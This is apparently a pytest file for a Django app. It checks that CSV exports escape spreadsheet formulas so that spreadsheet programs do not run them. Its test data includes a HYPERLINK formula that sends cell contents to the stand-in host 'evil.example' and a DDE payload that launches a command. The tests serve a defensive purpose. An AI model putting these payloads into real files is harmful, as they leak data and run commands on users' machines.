"""CSV exports can't smuggle spreadsheet formulas (issue 7, item 8)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from sourcing.connections.models import ApiUsage, AppCredential
from sourcing.core.exports import csv_response, csv_safe

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def _rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-3", "'-3"),  # text that looks like a number is still text
        ("Acme app", "Acme app"),
        ("义乌 杯子 = cups", "义乌 杯子 = cups"),
        ("", ""),
        (None, ""),
        (-3, -3),  # numbers stay numbers, so a spreadsheet can sum them
        (Decimal("-1.50"), Decimal("-1.50")),
        (True, "True"),
        (datetime.date(2026, 1, 2), "2026-01-02"),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_csv_response_is_a_utf8_download_with_a_bom_and_safe_cells():
    response = csv_response("用量 usage.csv", ["name", "calls"], [["=1+1", -5], ["杯子", 3]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "usage.csv" in response["Content-Disposition"]
    assert response.content.startswith("\ufeff".encode())
    assert _rows(response) == [["name", "calls"], ["'=1+1", "-5"], ["杯子", "3"]]


@pytest.mark.django_db
def test_usage_export_neutralises_a_formula_in_a_credential_name(client, alice):
    # given a credential whose name is a spreadsheet formula, with usage
    credential = AppCredential(owner=alice, name=FORMULA, app_key="-8000001")
    credential.app_secret = "s3cr3t-value"
    credential.save()
    day = datetime.date(2026, 1, 2)
    usage = ApiUsage.objects.create(app=credential.app_identity, credential=credential, api="@evil", day=day, calls=7)
    client.force_login(alice)
    # when the admin exports it
    response = client.post("/admin/sourcing/apiusage/", {"action": "export_csv", "_selected_action": [usage.pk]})
    # then every text cell that would run as a formula starts with a quote; numbers are untouched
    assert response.status_code == 200
    header, row = _rows(response)
    assert header == ["day", "app_key", "credential", "api", "calls", "daily_quota", "errors", "throttled"]
    assert row == ["2026-01-02", "'-8000001", "'" + FORMULA, "'@evil", "7", "1000", "0", "0"]


@pytest.mark.django_db
def test_usage_export_of_an_app_whose_credential_was_deleted(client, alice):
    # given usage kept after the credential that made it was deleted (the row outlives it)
    credential = AppCredential(owner=alice, name="Old app", app_key="8000003")
    credential.app_secret = "s3cr3t-value"
    credential.save()
    usage = ApiUsage.objects.create(app=credential.app_identity, credential=credential, api="x", day="2026-01-02")
    ApiUsage.objects.filter(pk=usage.pk).update(credential=None)
    client.force_login(alice)
    client.raise_request_exception = False
    response = client.post("/admin/sourcing/apiusage/", {"action": "export_csv", "_selected_action": [usage.pk]})
    assert response.status_code == 200
    assert _rows(response)[1] == ["2026-01-02", "8000003", "", "x", "0", "", "0", "0"]
